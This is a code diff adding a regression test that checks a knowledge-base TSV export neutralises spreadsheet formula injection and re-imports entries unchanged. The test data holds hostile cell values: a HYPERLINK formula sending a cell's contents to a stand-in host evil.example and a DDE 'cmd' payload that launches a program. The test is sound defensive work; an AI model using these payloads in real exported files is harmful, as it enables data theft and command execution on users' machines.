@@ -85,6 +85,30 @@ def test_export_imports_back_into_the_same_entries(sessions: sessionmaker[Sessio
         assert again.answer.endswith("审核后发放。")
 
 
+def test_export_runs_no_formula_in_a_spreadsheet_and_imports_back_the_same(
+        sessions: sessionmaker[Session]) -> None:
+    """An editor's entry whose cells begin as formulas (=, -, @, full-width ＝): the export,
+    opened in Excel, ran them (the trial saw "=HYPERLINK(…)" written as is, 2026-12-06);
+    each cell is now written as the tickets' CSV writes it, after a quote, and the file
+    imports back to the entry as it was."""
+    with sessions() as s:
+        entry = service.create_entry(
+            session=s, actor=EDITOR, entry_id="kb-formula", fields=service.EntryFields(
+                title='=HYPERLINK("http://evil.example/?"&B2,"点此查看")',
+                answer="-2+3+cmd|' /C calc'!A0", category="other",
+                keywords=("@SUM(1+1)", "取暖"), synonyms=("＝1+1",)))
+        s.commit()
+        exported = service.export_tsv(session=s)
+    (row,) = [line.split("\t") for line in exported.splitlines() if line.startswith("kb-formula")]
+    texts = [cell.strip('"') for cell in (row[2], row[3], row[4], row[6])]
+    assert all(cell.startswith("'") for cell in texts), row
+    with sessions() as s:
+        r = service.import_tsv(session=s, actor=EDITOR, text=exported)
+        assert r.unchanged == ["kb-formula"] and not r.updated
+        again = service.get_entry(session=s, entry_id=entry.id)
+        assert again.title.startswith("=HYPERLINK(") and again.answer.startswith("-2+3")
+        assert again.keywords == ["@SUM(1+1)", "取暖"] and again.synonyms == ["＝1+1"]
+
 def test_bad_rows_refuse_the_whole_file(sessions: sessionmaker[Session]) -> None:
     header = FAQ.splitlines()[0]
     bad = [f"{header}\nkb900\tother\t标题\t回答\t\t2027-13-01",
